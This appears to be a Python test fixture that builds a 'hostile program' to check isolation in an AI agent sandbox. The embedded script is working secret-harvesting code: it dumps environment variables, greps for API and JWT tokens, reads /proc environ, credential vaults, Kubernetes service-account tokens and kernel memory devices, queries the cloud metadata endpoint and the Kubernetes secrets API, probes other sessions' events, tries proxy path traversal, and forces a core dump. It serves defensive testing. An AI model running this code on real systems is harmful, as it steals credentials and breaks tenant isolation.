"""A hostile program for a sandbox: it looks for every secret it can think of, and prints whatever it gets."""

PROGRAM = r"""
import glob, json, os, socket, subprocess, urllib.request
def say(what, action):
    try:
        print("==", what, str(action())[:4000])
    except BaseException as error:
        print("==", what, "failed:", str(error)[:300])
def read(path):
    return os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(4000)
def web(url):
    own = {"Authorization": "Bearer {{WEATHER_KEY}}", "Cookie": "a=$WEATHER_KEY"}
    return urllib.request.urlopen(urllib.request.Request(url, headers=own), timeout=5).read()[:2000]
def direct(port, text):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as link:
        link.sendall(text)
        return link.recv(2000)
def core():
    subprocess.run(["sh", "-c", "ulimit -c unlimited; cd /workspace; kill -ABRT $$"])
    return glob.glob("/workspace/core*")

say("env", lambda: dict(os.environ))
folders = "/run /var/run /tmp /mnt /workspace /etc /home /root /managed-agents /managed-agents-socket /journal"
found = subprocess.run(
    ["grep", "-rlsaE", "-D", "skip", "canary|sk-ma-|eyJhbGci", *folders.split()],
    capture_output=True, timeout=60, text=True,
)
paths = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + found.stdout.split()
paths += ["/run/managed-agents/vault/credentials.json", "/run/secrets/kubernetes.io/serviceaccount/token"]
paths += ["/journal/journal.jsonl", "/proc/1/root/run/managed-agents", "/proc/1/mountinfo", "/proc/net/tcp"]
paths += ["/proc/1/mem", "/proc/kcore", "/dev/mem", "/dev/kmsg"]
for path in paths:
    say(path, lambda: read(path))
server = "http://managed-agents-server.managed-agents-system.svc"
for url in (
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://kubernetes.default.svc/api/v1/secrets",
    "http://127.0.0.1:7303/v1/models",
    "http://127.0.0.1:7300/healthz",
    server + ":8400/v1/sessions/OTHER/events",
    server + ":8401/internal/v1/sessions/OTHER",
    "http://BYSTANDER/echo",
):
    say(url, lambda: web(url))
for port in range(7300, 7305):
    say(port, lambda: direct(port, b"GET / HTTP/1.0\r\n\r\n"))
for path in ("/calls/sevt_x", "/packages", "/uploads", "/outputs", "/metrics", "/"):
    text = f"GET {path} HTTP/1.0\r\nAuthorization: Bearer x\r\nX-Epoch: 1\r\n\r\n"
    say(path, lambda: direct(7400, text.encode()))
say("the proxy", lambda: direct(3128, b"GET http://proxy/../../run/managed-agents HTTP/1.1\r\nHost: x\r\n\r\n"))
say("core", core)
decoys = json.loads('''DECOYS''')
with open("/workspace/loot", "w") as loot:
    loot.write("\n".join(decoys))
print("\n".join(decoys))
print(json.dumps("done"))
"""


def program(*, other: str, bystander: str, decoys: str) -> str:
    """Return the program. `decoys` is a JSON list of texts, which it prints and leaves behind."""
    return PROGRAM.replace("OTHER", other).replace("BYSTANDER", bystander).replace("DECOYS", decoys)
